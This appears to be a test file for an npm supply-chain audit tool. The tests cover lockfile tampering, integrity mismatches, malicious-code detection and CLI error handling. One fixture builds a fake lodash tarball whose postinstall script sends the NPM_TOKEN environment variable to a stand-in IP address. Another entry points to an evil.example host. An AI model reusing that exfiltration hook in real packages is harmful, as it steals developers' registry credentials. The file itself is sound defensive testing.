import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { audit } from "../src/audit.js";
import { createTarballCache } from "../src/tarball/cache.js";
import { type PublishedVersion, sriOf, startTestRegistry, type TestRegistry } from "./registry-server.js";
import { runCli } from "./run-cli.js";
import { buildTarball } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

const DAY = 86_400_000;
/** A v3 lockfile from `path → entry`, as npm lays it out. */
function lockV3(entries: Record<string, Record<string, unknown>>): string {
  return `${JSON.stringify({ name: "app", lockfileVersion: 3, requires: true, packages: { "": { name: "app" }, ...entries } }, null, 2)}\n`;
}

/** Line of `"<path>": {` in a lockfile text, to check where a finding points. */
function lineOf(text: string, path: string): number {
  return text.split("\n").findIndex((line) => line.trim() === `${JSON.stringify(path)}: {`) + 1;
}

let registry: TestRegistry;
let lodash: PublishedVersion;
let parent: PublishedVersion;
let evilLodash: Uint8Array;

before(async () => {
  const old = new Date(Date.now() - 90 * DAY);
  lodash = {
    name: "lodash",
    version: "4.17.21",
    tarball: await buildTarball({
      "package.json": JSON.stringify({ name: "lodash", version: "4.17.21" }),
      "index.js": "module.exports = 1;\n",
    }),
    publishedAt: old,
    publisher: "jdalton",
  };
  parent = {
    name: "bundles-things",
    version: "1.0.0",
    tarball: await buildTarball({
      "package.json": JSON.stringify({ name: "bundles-things", version: "1.0.0", bundleDependencies: ["inner-helper"] }),
      "node_modules/inner-helper/package.json": JSON.stringify({ name: "inner-helper", version: "2.0.0" }),
      "index.js": "module.exports = require('inner-helper');\n",
    }),
    publishedAt: old,
    publisher: "alice",
  };
  evilLodash = await buildTarball({
    "package.json": JSON.stringify({ name: "lodash", version: "4.17.21", scripts: { postinstall: "node x.js" } }),
    "x.js": "require('https').get('https://198.51.100.7/?t=' + process.env.NPM_TOKEN);\n",
  });
  registry = await startTestRegistry([lodash, parent]);
});

after(async () => {
  await registry.close();
});

test("a tampered nested copy of a name@version that is also installed elsewhere is checked at its own location", async () => {
  const text = lockV3({
    "node_modules/lodash": {
      version: "4.17.21",
      resolved: "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
      integrity: sriOf(lodash.tarball),
    },
    "node_modules/foo": { version: "1.0.0", resolved: "https://registry.npmjs.org/foo/-/foo-1.0.0.tgz", integrity: sriOf(lodash.tarball) },
    "node_modules/foo/node_modules/lodash": { version: "4.17.21", resolved: "http://evil.example/lodash-4.17.21.tgz" },
  });
  const report = await audit({ dir: tempDir({ "package-lock.json": text }), tarballs: false, metadata: false, home: tempDir() });
  const nestedLine = lineOf(text, "node_modules/foo/node_modules/lodash");
  const tampering = report.findings.filter((f) => f.checkId === "lockfile-tampering" && f.packageName === "lodash");
  assert.ok(
    tampering.some((f) => f.severity === "high" && /not in allowedHosts/.test(f.message)),
    JSON.stringify(report.findings),
  );
  for (const f of tampering) {
    assert.equal(f.location.line, nestedLine);
    assert.match(f.message, /^at node_modules\/foo\/node_modules\/lodash: /);
  }
  assert.equal(report.packages, 2, "the package count stays one per name@version");
});

test("a nested copy pinned to other bytes is fetched and verified on its own", async () => {
  const text = lockV3({
    "node_modules/lodash": { version: "4.17.21", integrity: sriOf(lodash.tarball) },
    "node_modules/b": { version: "1.0.0", integrity: sriOf(parent.tarball) },
    "node_modules/b/node_modules/lodash": { version: "4.17.21", integrity: sriOf(evilLodash) },
  });
  const report = await audit({
    dir: tempDir({ "package-lock.json": text }),
    registry: registry.url,
    cache: createTarballCache(tempDir()),
    metadata: false,
    home: tempDir(),
  });
  const mismatches = report.findings.filter((f) => f.checkId === "integrity-mismatch");
  assert.deepEqual(
    mismatches.map((f) => [f.packageName, f.severity, f.location.line]),
    [["lodash", "critical", lineOf(text, "node_modules/b/node_modules/lodash")]],
    JSON.stringify(report.findings),
  );
});

test("two artifacts of one name@version are analyzed in one pass, each under its own key", async () => {
  const text = lockV3({
    "node_modules/lodash": { version: "4.17.21", integrity: sriOf(lodash.tarball) },
    "node_modules/b/node_modules/lodash": { version: "4.17.21", integrity: sriOf(evilLodash) },
  });
  // The evil copy's bytes are already cached (an earlier run, another project): both copies get analyzed.
  const cache = createTarballCache(tempDir());
  cache.put(evilLodash);
  const report = await audit({
    dir: tempDir({ "package-lock.json": text }),
    registry: registry.url,
    cache,
    metadata: false,
    home: tempDir(),
  });
  assert.deepEqual(
    report.findings.filter((f) => f.checkId === "malicious-code").map((f) => [f.packageName, f.location.line]),
    [["lodash", lineOf(text, "node_modules/b/node_modules/lodash")]],
    JSON.stringify(report.findings),
  );
});

test("bundled dependencies are neither fetched nor flagged for the integrity npm never writes for them", async () => {
  const before = registry.requests.length;
  const report = await audit({
    dir: tempDir({
      "package-lock.json": lockV3({
        "node_modules/bundles-things": { version: "1.0.0", integrity: sriOf(parent.tarball), bundleDependencies: ["inner-helper"] },
        "node_modules/bundles-things/node_modules/inner-helper": { version: "2.0.0", inBundle: true },
      }),
    }),
    registry: registry.url,
    cache: createTarballCache(tempDir()),
    now: () => Date.now(),
    home: tempDir(),
  });
  const requested = registry.requests.slice(before);
  assert.ok(requested.includes("/bundles-things/-/bundles-things-1.0.0.tgz"), requested.join(", "));
  assert.deepEqual(
    requested.filter((path) => path.includes("inner-helper")),
    [],
  );
  assert.deepEqual(
    report.findings.filter((f) => f.packageName === "inner-helper"),
    [],
  );
  assert.equal(report.packages, 2);
});

test("input the audit cannot read exits 2 with a message, never 1", async () => {
  const lockfileIsDir = tempDir({ "package.json": "{}" });
  mkdirSync(join(lockfileIsDir, "package-lock.json"));
  const configIsDir = tempDir({ "package-lock.json": lockV3({}) });
  mkdirSync(join(configIsDir, ".parapet-audit.json"));
  const cases: Array<[string[], RegExp]> = [
    [[lockfileIsDir], /package-lock\.json: is a directory, not a file/],
    [[configIsDir], /\.parapet-audit\.json: is a directory, not a file/],
    [[lockfileIsDir, "--config", configIsDir], /: is a directory, not a file/],
  ];
  for (const [args, message] of cases) {
    const result = await runCli([...args, "--no-tarballs", "--no-metadata"]);
    assert.equal(result.code, 2, result.stderr);
    assert.match(result.stderr, message);
    assert.doesNotMatch(result.stderr, /\n\s+at /, "no stack trace");
  }
});

test("an unexpected failure exits 2 and says it is a bug, never 1", async () => {
  // OSV records with a malformed `events` list reach code that does not expect them.
  const osv = join(tempDir(), "osv.json");
  writeFileSync(
    osv,
    JSON.stringify({ id: "GHSA-x", affected: [{ package: { ecosystem: "npm", name: "foo" }, ranges: [{ type: "SEMVER", events: {} }] }] }),
  );
  const dir = tempDir({ "package-lock.json": lockV3({ "node_modules/foo": { version: "1.0.0", integrity: sriOf(lodash.tarball) } }) });
  const result = await runCli([dir, "--no-tarballs", "--no-metadata", "--osv", osv]);
  assert.equal(result.code, 2, result.stdout + result.stderr);
  assert.match(result.stderr, /^parapet audit: /);
  assert.doesNotMatch(result.stderr, /\n\s+at /, "no stack trace");
});

test("a malformed resolved URL is reported in SARIF instead of crashing the run", async () => {
  const dir = tempDir({
    "package-lock.json": lockV3({
      "node_modules/foo": {
        version: "1.0.0",
        resolved: "https://registry.npmjs.org/fo%E0o/-/foo-1.0.0.tgz",
        integrity: sriOf(lodash.tarball),
      },
    }),
  });
  const result = await runCli([dir, "--no-tarballs", "--no-metadata", "--sarif"]);
  assert.equal(result.code, 1, result.stderr);
  const sarif = JSON.parse(result.stdout) as { runs: Array<{ results: Array<{ ruleId: string; level: string }> }> };
  assert.deepEqual(
    sarif.runs[0]?.results.map((r) => [r.ruleId, r.level]),
    [["lockfile-tampering/high", "error"]],
  );
});
